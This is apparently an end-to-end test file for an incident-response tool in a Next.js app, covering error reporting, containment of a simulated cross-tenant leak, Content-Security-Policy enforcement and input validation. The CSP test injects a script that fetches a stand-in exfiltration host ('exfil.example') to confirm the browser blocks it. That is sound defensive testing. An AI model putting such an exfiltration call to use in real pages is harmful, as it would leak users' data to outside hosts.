import type { Browser, Page, Response as PageResponse } from 'playwright-core';
import { launchBrowser } from '../support/browser';
import { ensureExampleApp } from '../support/nextjs-app';
import { EDGE_CONFIG_ID, startNextjsStack, type NextjsStack } from '../support/nextjs-stack';
import { temporalText } from '../support/temporal';
import { startAll } from '../support/teardown';
import { waitFor } from '../support/waiting';

/**
 * Klaxon in a customer's Next.js app, end to end (issue 21): the example app (examples/nextjs,
 * built with `next build`, run with `next start`) beside Klaxon's stack and an Edge Config,
 * driven in Debian's Chromium and over HTTP as its users and its operators would: an error in
 * the browser becomes one incident without the personal data it held; a cross-tenant response
 * becomes a SEV1 whose containment shuts that tenant out at the app's proxy, and lets it back
 * in once resolved; bad input is refused and an unreadable Edge Config fails open, quietly.
 */
let env: NextjsStack;
let browser: Browser;

// A cold machine installs Next and builds the app first (a few minutes on 2 cores).
beforeAll(async () => {
  await ensureExampleApp();
  [env, browser] = await startAll([startNextjsStack(), launchBrowser()] as const);
}, 900_000);

const EMAIL = 'jane.doe@example.com';
const appUrl = (path: string) => `${env.app.url}${path}`;
const isReport = (r: PageResponse) => new URL(r.url()).pathname === '/api/klaxon/report';

/** Klaxon's incidents, with their state, by what they are about (the list reads Temporal visibility). */
async function incidents(): Promise<Array<Awaited<ReturnType<NextjsStack['klaxon']['incidents']['state']>>>> {
  const listed = await env.klaxon.incidents.list();
  return Promise.all(listed.map((i) => env.klaxon.incidents.state(i.incidentId)));
}
const clientErrorIncidents = async () => (await incidents()).filter((i) => i.title.includes('/demo/client-error'));

/** Everything Klaxon keeps or sent of an incident: Temporal's record of it (its alerts among it), its ledger record, the Slack messages. */
async function everythingKept(incidentId: string): Promise<string> {
  const [temporal, timeline] = await Promise.all([temporalText(env.klaxon.env.client, incidentId), env.klaxon.ledger.timeline(incidentId)]);
  return [temporal, JSON.stringify(timeline), JSON.stringify(env.klaxon.slack.calls)].join('\n');
}

/** The boundary's fallback (Next's route announcer is an empty role=alert of its own). */
const fallback = (page: Page) => page.getByRole('alert').filter({ hasText: 'Something went wrong on this page' });

/** Opens the page that throws and answers the boundary's report as the app answered it. */
async function openThrowingPage(page: Page, reload = false): Promise<PageResponse> {
  const [report] = await Promise.all([page.waitForResponse(isReport), reload ? page.reload() : page.goto(appUrl('/demo/client-error'))]);
  await fallback(page).waitFor();
  return report;
}

describe('a component that throws in the browser', () => {
  let page: Page;
  let incidentId: string;

  it('shows the boundary\'s fallback and opens one incident in Klaxon (source nextjs, client component), the e-mail address in its message nowhere', async () => {
    // Someone signed in to acme: the example's demo rule reads the tenant from this cookie (a real app, from its session).
    const context = await browser.newContext();
    await context.addCookies([{ name: 'tenant', value: 'acme', url: env.app.url }]);
    page = await context.newPage();
    const report = await openThrowingPage(page);
    expect(report.status()).toBe(202);
    expect(await fallback(page).textContent()).toBe('Something went wrong on this page. We have been told and are looking into it.');
    expect(await page.content()).not.toContain(EMAIL);

    // What left the browser: the safe fields only, the message redacted, the page's request id.
    const sent = report.request().postDataJSON() as Record<string, unknown> & { error: Record<string, string> };
    expect(Object.keys(sent).sort()).toEqual(expect.arrayContaining(['error', 'requestId', 'route', 'surface']));
    expect(sent).toMatchObject({ surface: 'client-component', route: '/demo/client-error', error: { name: 'TypeError' } });
    expect(sent.error.message).toContain('Cannot read the invoice total of');
    expect(JSON.stringify(sent)).not.toContain(EMAIL);
    expect(sent.requestId).toBe(await page.locator('meta[name="klaxon-request-id"]').getAttribute('content'));

    const [opened] = await waitFor('the incident in Klaxon', async () => {
      const found = await clientErrorIncidents();
      return found.length ? found : undefined;
    });
    incidentId = opened.incidentId;
    expect(opened).toMatchObject({ severity: 'SEV3', tenant: 'acme', dataCategories: [] });
    expect(opened.title).toBe('Next.js client component error on /demo/client-error: TypeError');
    // The workflow writes its record to the ledger within a second or so.
    const received = await waitFor('the alert in the ledger', async () => (await env.klaxon.ledger.timeline(incidentId)).find((e) => e.kind === 'alert.received'));
    expect(received.payload).toMatchObject({ source: 'nextjs' });
    const kept = await everythingKept(incidentId);
    expect(kept).toContain('client-component');
    expect(kept).not.toContain(EMAIL);
    expect(kept).not.toContain('jane.doe');
  });

  it('reloaded 20 times: the fallback each time, and still one incident (repeats rate-limited by the app, grouped by Klaxon)', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 20; i++) statuses.push((await openThrowingPage(page, true)).status());
    expect(statuses.every((s) => s === 202 || s === 204 || s === 429)).toBe(true);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThan(0);
    // Whatever was forwarded has reached Klaxon by now: a forward is answered once Temporal has it.
    const found = await clientErrorIncidents();
    expect(found.map((i) => i.incidentId)).toEqual([incidentId]);
    expect(found[0].alertCount).toBeLessThanOrEqual(1 + statuses.filter((s) => s !== 429).length);
    expect(await everythingKept(incidentId)).not.toContain(EMAIL);
  });
});

describe('a response carrying another tenant\'s records', () => {
  const status = async (tenant: string) => (await fetch(appUrl(`/?tenant=${tenant}`))).status;

  it('opens a SEV1 incident; Klaxon isolates acme and the proxy answers it 503 (a neutral page) and globex 200; resolved, acme is served again', async () => {
    expect(await status('acme')).toBe(200);
    const res = await fetch(appUrl('/api/demo/export?tenant=acme&leak=1'));
    // Report mode: the response left (that is what makes it a breach), Klaxon is told.
    expect(res.status).toBe(200);
    const { customers } = (await res.json()) as { customers: Array<{ tenant: string }> };
    expect(customers.map((c) => c.tenant)).toEqual(['acme', 'acme', 'globex']);

    const sev1 = await waitFor('the SEV1 incident', async () => (await incidents()).find((i) => i.severity === 'SEV1'));
    expect(sev1).toMatchObject({ tenant: 'acme', dataCategories: ['personal-data'] });
    await waitFor('the isolation in Edge Config', () => env.edge.value(EDGE_CONFIG_ID, 'klaxon_tenant_acme_isolate-tenant'));

    // Within the proxy's cache (5 s): acme is shut out, globex is not.
    await waitFor('acme refused at the proxy', async () => (await status('acme')) === 503, 15_000);
    const page = await (await browser.newContext()).newPage();
    const refused = (await page.goto(appUrl('/?tenant=acme')))!;
    expect(refused.status()).toBe(503);
    expect(refused.headers()).toMatchObject({ 'retry-after': '60', 'cache-control': expect.stringContaining('no-store') });
    const shown = (await page.locator('body').textContent())!;
    for (const detail of ['acme', 'incident', 'Klaxon', 'isolat', sev1.incidentId]) expect(shown).not.toContain(detail);
    const globex = (await page.goto(appUrl('/?tenant=globex')))!;
    expect(globex.status()).toBe(200);
    expect(await page.locator('h1').textContent()).toBe('Welcome, globex');

    // The app's own audit trail has the call: who, which tenant, where, how many records.
    const { rows } = await env.appDb.pool.query('SELECT * FROM klaxon_data_access WHERE tenant = $1', ['acme']);
    expect(rows).toEqual([expect.objectContaining({ tenant: 'acme', route: '/api/demo/export', records: 3 })]);

    await env.klaxon.incidents.change('resolve', sev1.incidentId, { by: { responder: 'alice', via: 'cli' } });
    await waitFor('the rollback in Edge Config', () => env.edge.value(EDGE_CONFIG_ID, 'klaxon_tenant_acme_isolate-tenant') === undefined);
    const rolledBack = Date.now();
    await waitFor('acme served again', async () => (await status('acme')) === 200, 15_000);
    expect(Date.now() - rolledBack).toBeLessThan(7_000);
  });
});

describe('the Content-Security-Policy', () => {
  it('is enforced in the browser (a fetch to an outside host is refused as connect-src), names the app\'s own report route, which takes the browser\'s report', async () => {
    const page = await (await browser.newContext()).newPage();
    const answer = (await page.goto(appUrl('/?tenant=globex')))!;
    const csp = answer.headers()['content-security-policy'];
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain('report-uri /api/klaxon/csp');
    expect(csp).toContain('report-to klaxon-csp');
    expect(answer.headers()['reporting-endpoints']).toBe('klaxon-csp="/api/klaxon/csp"');
    // What a script injected into the page would try: the browser refuses it and raises the violation it reports.
    // (A string: the root's TypeScript has no DOM types; test/support/browser.ts does the same.)
    const violation = await page.evaluate(`new Promise((resolve) => {
      setTimeout(() => resolve('no violation'), 3000);
      document.addEventListener('securitypolicyviolation', (e) => resolve({ directive: e.effectiveDirective, blocked: e.blockedURI }), { once: true });
      fetch('https://exfil.example/collect').catch(() => undefined);
    })`);
    expect(violation).toEqual({ directive: 'connect-src', blocked: 'https://exfil.example/collect' });
    // Chromium delivers report-to reports in batches up to a minute later: the report-uri form, as a browser posts it.
    const report = { 'csp-report': { 'document-uri': appUrl('/?tenant=globex'), 'violated-directive': 'connect-src', 'effective-directive': 'connect-src', 'blocked-uri': 'https://exfil.example/collect', 'original-policy': csp, disposition: 'enforce', 'status-code': 200 } };
    const res = await fetch(appUrl('/api/klaxon/csp'), { method: 'POST', headers: { 'content-type': 'application/csp-report' }, body: JSON.stringify(report) });
    expect(res.status).toBe(204);
  });
});

describe('bad input', () => {
  it('refuses a report body that is not what the boundary sends (400; 413 when too large), and nothing reaches Klaxon', async () => {
    const before = (await env.klaxon.incidents.list()).length;
    const post = (body: string) => fetch(appUrl('/api/klaxon/report'), { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    const boundaryLike = { surface: 'client-component', route: '/checkout', error: { name: 'Error', message: 'card declined' } };
    const refusals: Array<[string, number]> = [
      [JSON.stringify({ ...boundaryLike, props: { email: EMAIL } }), 400],
      [JSON.stringify({ ...boundaryLike, surface: 'kernel' }), 400],
      [JSON.stringify({ ...boundaryLike, error: 'card declined' }), 400],
      ['{"surface": "client-component", ', 400],
      [JSON.stringify({ ...boundaryLike, error: { name: 'Error', message: 'x'.repeat(40_000) } }), 413],
    ];
    for (const [body, expected] of refusals) {
      const res = await post(body);
      expect([res.status, body.slice(0, 60)]).toEqual([expected, body.slice(0, 60)]);
      expect(((await res.json()) as { error: string }).error).toEqual(expect.any(String));
    }
    await new Promise((r) => setTimeout(r, 1_500));
    expect((await env.klaxon.incidents.list()).length).toBe(before);
  });

  it('an Edge Config that cannot be read: the default fails open (every tenant served) and logs it once, not once per request', async () => {
    const logged = () => env.app.child.output.split('\n').filter((l) => l.includes('containment store unreadable')).length;
    const before = logged();
    env.edge.readFailure = 500;
    try {
      // Served meanwhile from the proxy's cache (5 s), until a request past it finds the store unreadable:
      // waited for by that first log line, not by a fixed 6 s (the cache may have been read seconds ago).
      await waitFor('a request past the cache to find the store unreadable', async () => {
        expect(await (await fetch(appUrl('/?tenant=acme'))).status).toBe(200);
        return logged() > before;
      });
      for (let i = 0; i < 30; i++) expect(await (await fetch(appUrl(`/?tenant=${i % 2 ? 'acme' : 'globex'}`))).status).toBe(200);
      expect(logged() - before).toBe(1);
    } finally {
      env.edge.readFailure = undefined;
    }
  });
});
